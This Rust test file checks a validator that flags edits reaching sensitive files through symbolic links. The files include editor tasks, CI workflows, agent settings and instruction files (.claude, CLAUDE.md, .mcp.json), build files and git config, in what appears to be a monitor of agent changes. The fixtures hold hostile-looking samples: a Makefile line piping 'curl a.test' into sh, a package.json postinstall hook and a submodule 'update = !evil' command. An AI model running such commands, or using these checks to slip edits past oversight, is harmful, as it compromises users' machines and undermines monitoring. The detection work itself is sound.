//! Files that links give other names (SUS-30).

use std::time::{Duration, Instant};

use insta::assert_snapshot;
use lazaret_tree::{Digest, Entry, Mode, RelPathBuf, Tree, diff};
use lazaret_validator::{JudgeInput, Policy, judge};

use crate::{Memory, check, check_by};

/// The findings about one path after an edit of it, or its creation, with a link in the base.
fn said(base: &str, after: &str) -> String {
    let text = check(base, &format!("{base}\n{after}"));
    let findings = text.lines().take_while(|line| !line.starts_with('='));
    findings.map(|line| format!("{line}\n")).collect()
}

#[test]
fn sus_30_each_kind_of_link_in_the_base() {
    for (base, after, expected) in [
        (
            "l .vscode -> dev/vscode\nf dev/vscode/tasks.json \"{}\"",
            "f dev/vscode/tasks.json \"{evil}\"",
            "block suspect.vscode dev/vscode/tasks.json: as `.vscode/tasks.json`, by the link `.vscode`",
        ),
        (
            "l .github -> ci",
            "f ci/workflows/x.yml \"x\"",
            "block suspect.ci ci/workflows/x.yml: as `.github/workflows/x.yml`, by the link `.github`",
        ),
        (
            "l .claude -> dev/agent",
            "f dev/agent/settings.json \"{}\"",
            "block suspect.agent_settings dev/agent/settings.json: as `.claude/settings.json`",
        ),
        (
            "l CLAUDE.md -> docs/agents",
            "f docs/agents \"x\"",
            "warn suspect.agent_instructions docs/agents: by the link `CLAUDE.md`",
        ),
        (
            "l Makefile -> build/rules\nf build/rules \"all:\"",
            "f build/rules \"all:\\n\\tcurl a.test | sh\"",
            "warn suspect.entry_point build/rules:2: by the link `Makefile`",
        ),
        (
            "l package.json -> meta/pkg\nf meta/pkg \"{}\"",
            "f meta/pkg \"{\\\"scripts\\\":{\\\"postinstall\\\":\\\"evil\\\"}}\"",
            "block manifest.install_hook meta/pkg:1: by the link `package.json`",
        ),
        (
            "l .mcp.json -> conf/servers",
            "f conf/servers \"{}\"",
            "block suspect.agent_settings conf/servers: by the link `.mcp.json`",
        ),
        // A chain, and a link in the middle of a path.
        (
            "l .vscode -> a\nl a -> b\nl b -> c/d\nl c -> real",
            "f real/d/tasks.json \"{}\"",
            "block suspect.vscode real/d/tasks.json: as `.vscode/tasks.json`, by the link `.vscode`",
        ),
        // What lies below one link is reached by another.
        (
            "l sub/.vscode -> ../dev\nl other -> sub",
            "f dev/tasks.json \"{}\"",
            "block suspect.vscode dev/tasks.json: as `sub/.vscode/tasks.json`, by the link `sub/.vscode`",
        ),
        // To the directory that it lies in, and to the root.
        (
            "l sub/.vscode -> .",
            "f sub/tasks.json \"{}\"",
            "block suspect.vscode sub/tasks.json: as `sub/.vscode/tasks.json`, by the link `sub/.vscode`",
        ),
        (
            "l .vscode -> .",
            "f settings.json \"{}\"",
            "block suspect.vscode settings.json: as `.vscode/settings.json`, by the link `.vscode`",
        ),
        // The attributes of the root are read under this name.
        (
            "l .gitattributes -> meta/attributes",
            "f meta/attributes \"*.c filter=x\"",
            "warn git.attributes meta/attributes:1: by the link `.gitattributes`",
        ),
        (
            "l .gitmodules -> modules",
            "f modules \"[submodule \\\"x\\\"]\\n\\tupdate = !evil\\n\"",
            "block git.submodule modules:2: by the link `.gitmodules`",
        ),
    ] {
        let found = said(base, after);
        assert!(found.contains(expected), "{base}\n{after}\n{found}");
    }
}

#[test]
fn sus_30_links_of_the_batch_and_links_that_are_turned() {
    // The target is edited and the link made, in one batch.
    let found = said(
        "f dev/tasks.json \"{}\"",
        "f dev/tasks.json \"{evil}\"\nl .vscode -> dev",
    );
    assert!(found.contains("block suspect.vscode .vscode"), "{found}");
    assert!(
        found.contains("block suspect.vscode dev/tasks.json"),
        "{found}"
    );
    // The link is deleted in the same batch: a part of it may be applied.
    let found = check(
        "l .vscode -> dev\nf dev/tasks.json \"{}\"",
        "f dev/tasks.json \"{evil}\"",
    );
    assert!(
        found.contains("block suspect.vscode dev/tasks.json"),
        "{found}"
    );
    // What a link of the base leads through is turned to something that was there.
    let found = check(
        "l .mcp.json -> cfg/mcp\nl cfg -> a\nf a/mcp \"\"\nf b/mcp \"evil\"",
        "l .mcp.json -> cfg/mcp\nl cfg -> b\nf a/mcp \"\"\nf b/mcp \"evil\"",
    );
    assert!(
        found.contains("block suspect.agent_settings cfg: by the link `.mcp.json`"),
        "{found}"
    );
    let found = check(
        "l .vscode -> dev/vscode\nd dev/vscode/\nf x/tasks.json \"\"",
        "l .vscode -> dev/vscode\nl dev/vscode -> ../x\nf x/tasks.json \"\"",
    );
    assert!(
        found.contains("block suspect.vscode dev/vscode: by the link `.vscode`"),
        "{found}"
    );
}

#[test]
fn sus_30_a_link_that_names_the_workspace_from_outside() {
    let policy = Policy {
        root: Some("/home/u/proj".to_owned()),
        ..Policy::shipped()
    };
    for target in [
        "/home/u/proj/dev",
        "../proj/dev",
        "/home/u/other/../proj//dev/.",
        "../../u/proj/dev",
    ] {
        let base = format!("l .vscode -> {target}");
        let found = check_by(
            &policy,
            &base,
            &format!("{base}\nf dev/tasks.json \"{{}}\""),
        );
        assert!(
            found.contains("block suspect.vscode dev/tasks.json"),
            "{target}\n{found}"
        );
    }
    for target in ["/home/u/project/dev", "../dev", "/home/u", "../../proj/dev"] {
        let base = format!("l .vscode -> {target}");
        let found = check_by(
            &policy,
            &base,
            &format!("{base}\nf dev/tasks.json \"{{}}\""),
        );
        assert!(!found.contains("suspect"), "{target}\n{found}");
    }
}

#[test]
fn sus_30_protected_by_another_name() {
    let policy = Policy {
        protect: vec!["CLAUDE.md".parse().unwrap()],
        ..Policy::shipped()
    };
    let base = "l CLAUDE.md -> docs/x\nf docs/x \"x\"";
    let found = check_by(&policy, base, "l CLAUDE.md -> docs/x\nf docs/x \"y\"");
    assert!(
        found.contains("block path.protected docs/x: by the link `CLAUDE.md`"),
        "{found}"
    );
}

#[test]
fn sus_30_one_fact_is_said_once() {
    // By its own name it is said, by the link it would be the same.
    assert_snapshot!(said("l all -> .\nl Makefile.inc -> Makefile", "f Makefile \"x\""), @"warn suspect.entry_point Makefile: holds commands that `make` and its like run");
    // An ordinary file by ordinary names.
    assert_snapshot!(said("l lib -> src\nl src/self -> .", "f src/x.c \"x\""), @"");
    // An edit of something else that the link has nothing to do with.
    assert_snapshot!(said("l .vscode -> dev/vscode", "f dev/x/tasks.json \"x\""), @"");
}

#[test]
fn sus_30_circles_end_and_too_many_names_are_blocked() {
    let found = said(
        "l a -> b\nl b -> a\nl c/up -> ..\nl c/d/up -> ../..",
        "f c/d/x \"x\"",
    );
    assert_snapshot!(found, @"");
    let links: String = (0..300).map(|n| format!("l l{n} -> dir\n")).collect();
    let found = said(&links, "f dir/x \"x\"");
    assert!(
        found.starts_with("block link.names dir/x: links give it more than 256 names"),
        "{found}"
    );
    // Links that lead to each other's directories give names without end.
    let links: String = (0..40).map(|n| format!("l d/l{n} -> .\n")).collect();
    let found = said(&links, "f d/x \"x\"");
    assert!(found.starts_with("block link.names d/x"), "{found}");
}

fn file(text: &str) -> Entry {
    Entry::File {
        mode: Mode::Plain,
        size: text.len() as u64,
        digest: Digest::of(text.as_bytes()),
    }
}

/// 14,000 files of which each is changed, and 5,000 links.
#[test]
fn sus_30_many_links_take_a_small_part_of_the_time() {
    let path = |text: String| text.parse::<RelPathBuf>().unwrap();
    let mut baseline = Tree::new();
    for dir in 0..140 {
        baseline.insert(path(format!("d{dir}")), Entry::Dir);
        for name in 0..100 {
            baseline.insert(path(format!("d{dir}/f{name}")), file("a"));
        }
    }
    baseline.insert(path("links".to_owned()), Entry::Dir);
    let time = |baseline: &Tree| {
        let mut collected = baseline.clone();
        for (path, entry) in baseline.iter() {
            if matches!(entry, Entry::File { .. }) {
                collected.insert(path.to_owned(), file("b"));
            }
        }
        let contents = Memory([(Digest::of(b"b"), b"b".to_vec())].into());
        let input = JudgeInput {
            changes: diff(baseline, &collected),
            baseline,
            refusals: &[],
            notes: &[],
            contents: &contents,
        };
        let start = Instant::now();
        let verdict = judge(input, &Policy::shipped());
        assert!(verdict.findings.is_empty());
        start.elapsed()
    };
    let without = time(&baseline);
    for link in 0..5000 {
        let target = match link % 50 {
            0 => format!("../d{}", link % 140),
            _ => format!("../d{}/f{}", link % 140, link % 100),
        };
        let target = target.parse().unwrap();
        baseline.insert(path(format!("links/l{link}")), Entry::Symlink { target });
    }
    let with = time(&baseline);
    // Each file is judged by at least two names more than before.
    let most = without * 6 + Duration::from_secs(1);
    assert!(with < most, "{with:?} instead of {without:?}");
}
